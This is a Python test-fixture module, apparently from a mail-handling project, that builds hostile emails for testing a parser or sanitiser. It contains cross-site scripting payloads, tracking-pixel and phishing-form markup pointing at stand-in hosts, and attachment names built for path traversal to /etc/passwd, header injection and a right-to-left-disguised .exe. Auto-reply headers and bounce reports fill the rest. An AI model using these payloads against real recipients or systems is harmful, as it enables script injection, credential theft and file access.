"""Mails that want something: scripts, tracking, names that deceive, floods and loops."""

from tests.mailroom.corpus.broken import mail, parts, typed

_HTML = "text/html; charset=utf-8"


def html(name: str, markup: str) -> bytes:
    """A mail of HTML alone."""
    return typed(name, _HTML, markup.encode())


def file_named(name: str, line: bytes) -> bytes:
    """A mail with one file under this Content-Disposition."""
    return parts(name, b"\r\nHello", b"Content-Disposition: attachment; " + line + b"\r\n\r\nwords")


MARKUP = {
    "script": html("s", "<p>Hello<script>alert(1)</script><img src=x onerror=alert(1)>"),
    "style": html("st", "<style>body{background:url(//spy.example)}</style><p style='x'>Hello"),
    "form": html("f", "<form action=//evil.example><input name=password><button>Go</form>"),
    "meta refresh": html("mr", "<meta http-equiv=refresh content='0;url=//evil.example'>Hello"),
    "base": html("b", "<base href=//evil.example><a href=x>Hello</a>"),
    "svg": html("svg", "<svg onload=alert(1)><a xlink:href='javascript:1'>x</a></svg>Hello"),
    "math": html("m", "Hello<math><mtext></p><style><img src=x onerror=alert(1)></math>"),
    "javascript link": html("jl", "<a href=' java\nscript:alert(1)'>Hello</a>"),
    "data link": html("dl", "<a href='data:text/html,<script>1</script>'>Hello</a>"),
    "iframe": html("i", "<iframe srcdoc='<script>1</script>'></iframe>Hello"),
    "object": html("o", "<object data=//evil.example></object><embed src=x>Hello"),
    "comment tricks": html("ct", "<!--><script>alert(1)</script>-->Hello<![endif]-->"),
    "attribute tricks": html("at", '<img src="x` `<script>alert(1)</script>">Hello'),
    "unclosed": html("uc", "<p><b><i><table><tr><td>Hello <a href='"),
    "remote pictures": html("rp", "<img src='https://spy.example/1?u=anna'>" * 50 + "Hello"),
    "css background": html("bg", "<td background='https://spy.example/x'>Hello</td>"),
    "nested tables": html("nt", "<table><tr><td>" * 5000 + "Hello"),
    "nested divs 100000": html("nd", "<div>" * 100_000 + "Hello"),
    "entities": html("e", "&lt;script&gt;alert(1)&lt;/script&gt;&#0;&#xD800;Hello"),
    "cid pictures": parts(
        "cid",
        b'Content-Type: text/html\r\n\r\n<img src="cid:a"><img src="cid:../../x">Hello',
        b"Content-Type: image/png\r\nContent-ID: <a>\r\n\r\n\x89PNG\r\n\x1a\n",
        kind="related",
    ),
}
FILES = {
    "right-to-left name": file_named("rtl", b"filename*=utf-8''a%E2%80%AEgpj.exe"),
    "path in name": file_named("pn", b'filename="../../etc/passwd"'),
    "windows path in name": file_named("wp", b'filename="C:\\\\x\\\\evil.exe"'),
    "NUL in name": file_named("nn", b"filename*=utf-8''a%00b.txt"),
    "line end in name": file_named("ln", b"filename*=utf-8''a%0D%0AX-Evil%3A%20b.txt"),
    "name of nothing": file_named("no", b'filename=""'),
    "name of dots": file_named("nd", b'filename="..."'),
    "name of 10000 letters": file_named("nl", b'filename="' + b"a" * 10_000 + b'.txt"'),
    "name with unknown charset": file_named("nu", b"filename*=x-klingon''%FF%FE.txt"),
    "winmail.dat": parts(
        "tnef", b"Content-Type: application/ms-tnef; name=winmail.dat\r\n\r\n\x78\x9f\x3e\x22"
    ),
    "calendar": parts(
        "ics",
        b"\r\nHello",
        b"Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nATTACH:file:///etc/passwd",
    ),
    "only a file": typed("of", 'application/pdf; name="a.pdf"', b"%PDF-1.4"),
    "encrypted": parts(
        "pgp", b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1", kind="encrypted"
    ),
    "empty file": parts("ef", b"Content-Disposition: attachment; filename=a.txt\r\n\r\n"),
    "HTML as a file": file_named("hf", b'filename="a.html"'),
}
PROGRAMS = {
    f"automatic: {line.decode()}": mail(f"auto{number}", line + b"\r\n")
    for number, line in enumerate(
        (
            b"Auto-Submitted: auto-replied",
            b"Auto-Submitted: auto-generated; owner=x",
            b"Auto-Submitted:  AUTO-NOTIFIED ",
            b"Precedence: bulk",
            b"Precedence: auto_reply",
            b"X-Auto-Response-Suppress: All",
            b"X-Autoreply: yes",
            b"X-Autorespond: vacation",
            b"List-Id: <news.elsewhere.example>",
            b"List-Unsubscribe: <https://news.example/u>",
            b"Return-Path: <>",
        )
    )
}


def _report(name: str, sender: str, fields: str, rest: bytes) -> bytes:
    report = parts(
        name,
        b"\r\nIt could not be delivered.",
        b"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example\r\n\r\n"
        + fields.encode(),
        rest,
        kind="report; report-type=delivery-status",
    )
    return report.replace(b"From: Anna <anna@client.example>", f"From: {sender}".encode())


_ORIGINAL = b"From: help@plano.example\r\nMessage-ID: <ours-1@plano.example>\r\n\r\nHello"
BOUNCES = {
    "bounce of Postfix": _report(
        "pf",
        "MAILER-DAEMON@mx.example (Mail Delivery System)",
        "Final-Recipient: rfc822; anna@client.example\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        "Diagnostic-Code: smtp; 550 5.1.1 <anna@client.example>: unknown",
        b"Content-Type: message/rfc822\r\n\r\n" + _ORIGINAL,
    ),
    "bounce of Exchange": _report(
        "xc",
        "postmaster@client.example",
        "Final-Recipient: rfc822;anna@client.example\r\nAction: failed\r\nStatus: 5.1.10\r\n"
        "Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound",
        b"Content-Type: text/rfc822-headers\r\n\r\n" + _ORIGINAL,
    ),
    "bounce of Gmail": _report(
        "gm",
        "Mail Delivery Subsystem <mailer-daemon@googlemail.com>",
        "Final-Recipient: rfc822; anna@client.example\r\nAction: failed\r\nStatus: 5.2.2\r\n"
        "Diagnostic-Code: smtp; 552-5.2.2 The email account is over quota.",
        b"Content-Type: message/rfc822\r\n\r\n" + _ORIGINAL,
    ),
    "bounce without a report": mail(
        "nr", b"", b"550 5.1.1 no such user\r\n\r\nMessage-ID: <ours-1@plano.example>\r\n"
    ).replace(b"From: Anna <anna@client.example>", b"From: <MAILER-DAEMON@mx.example>"),
}
LATE = _report(
    "late",
    "MAILER-DAEMON@mx.example",
    "Final-Recipient: rfc822; anna@client.example\r\nAction: delayed\r\nStatus: 4.4.1",
    b"Content-Type: text/rfc822-headers\r\n\r\n" + _ORIGINAL,
)
HOSTILE = {**MARKUP, **FILES, **PROGRAMS, **BOUNCES, "bounce that is only late": LATE}
